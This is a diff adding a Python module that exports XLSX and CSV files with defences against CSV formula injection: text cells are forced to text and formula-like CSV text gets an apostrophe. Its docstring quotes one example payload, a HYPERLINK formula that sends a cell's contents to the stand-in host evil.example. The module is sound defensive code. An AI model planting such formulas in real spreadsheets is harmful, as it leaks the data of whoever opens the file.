@@ -1,0 +1,120 @@
+"""The export writer every app uses: XLSX and CSV that a spreadsheet cannot run.
+
+A title such as `=HYPERLINK("http://evil.example/?"&A2,"Click")` typed into the
+app would be a live formula in a naive export: Excel runs it when finance opens
+the file. Every text cell here is written as text, never as a formula (the
+OWASP rule for CSV injection: text starting with =, +, -, @, a tab or a
+carriage return). XLSX sheets get a bold frozen header row, column widths and an
+autofilter; dates and numbers stay dates and numbers.
+"""
+
+import csv
+import datetime as dt
+import io
+from collections.abc import Iterable, Sequence
+from decimal import Decimal
+
+from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.styles import Font
+from openpyxl.utils import get_column_letter
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
+DEFAULT_WIDTH = 14
+MAX_SHEET_TITLE = 31  # Excel's limit
+NUMBER_TYPES = (int, float, Decimal)
+
+
+def is_formula_like(text: str) -> bool:
+    return text.startswith(FORMULA_STARTS)
+
+
+def _plain(value):
+    """A cell value: numbers, dates and booleans as they are; everything else as text."""
+    if value is None:
+        return ""
+    if isinstance(value, dt.datetime) and value.tzinfo is not None:
+        return value.replace(tzinfo=None)  # Excel has no time zones; callers pass local times
+    if isinstance(value, (*NUMBER_TYPES, dt.date, bool)):
+        return value
+    return str(value)
+
+
+class XlsxSheet:
+    """One sheet being written: `append(values)` a row at a time, in a write-only
+    workbook so that a year of rows does not sit in memory as cell objects."""
+
+    def __init__(self, workbook: Workbook, title: str, headers: Sequence[str], widths: Sequence[int] = ()):
+        self._sheet = workbook.create_sheet(str(title)[:MAX_SHEET_TITLE])
+        self._columns = len(headers)
+        self._rows = 0
+        for index in range(self._columns):
+            width = widths[index] if index < len(widths) else DEFAULT_WIDTH
+            self._sheet.column_dimensions[get_column_letter(index + 1)].width = width
+        self._sheet.freeze_panes = "A2"
+        bold = Font(bold=True)
+        header_cells = []
+        for header in headers:
+            cell = self._text_cell(str(header))
+            cell.font = bold
+            header_cells.append(cell)
+        self._sheet.append(header_cells)
+
+    def _text_cell(self, text: str) -> WriteOnlyCell:
+        cell = WriteOnlyCell(self._sheet, value=text)
+        cell.data_type = "s"  # text even when it starts with "=": never a formula
+        return cell
+
+    def append(self, values: Iterable) -> None:
+        row = []
+        for value in values:
+            plain = _plain(value)
+            row.append(self._text_cell(plain) if isinstance(plain, str) else plain)
+        self._sheet.append(row)
+        self._rows += 1
+
+    def close(self) -> None:
+        last = get_column_letter(max(self._columns, 1))
+        self._sheet.auto_filter.ref = f"A1:{last}{self._rows + 1}"
+
+
+class XlsxExport:
+    """A workbook of one or more sheets: `sheet(title, headers, widths)`, then `to_bytes()`."""
+
+    def __init__(self):
+        self._workbook = Workbook(write_only=True)
+        self._sheets: list[XlsxSheet] = []
+
+    def sheet(self, title: str, headers: Sequence[str], widths: Sequence[int] = ()) -> XlsxSheet:
+        sheet = XlsxSheet(self._workbook, title, headers, widths)
+        self._sheets.append(sheet)
+        return sheet
+
+    def to_bytes(self) -> bytes:
+        for sheet in self._sheets:
+            sheet.close()
+        buffer = io.BytesIO()
+        self._workbook.save(buffer)
+        return buffer.getvalue()
+
+
+def csv_text(value) -> str:
+    """A CSV cell: text that a spreadsheet would read as a formula gets a leading apostrophe."""
+    plain = _plain(value)
+    if isinstance(plain, dt.datetime):
+        return plain.isoformat(sep=" ", timespec="minutes")
+    if not isinstance(plain, str):
+        return str(plain)
+    return f"'{plain}" if is_formula_like(plain) else plain
+
+
+def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence]) -> bytes:
+    """A CSV file in UTF-8 with a byte-order mark, so that Excel opens Chinese text correctly."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow([csv_text(h) for h in headers])
+    for row in rows:
+        writer.writerow([csv_text(v) for v in row])
+    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
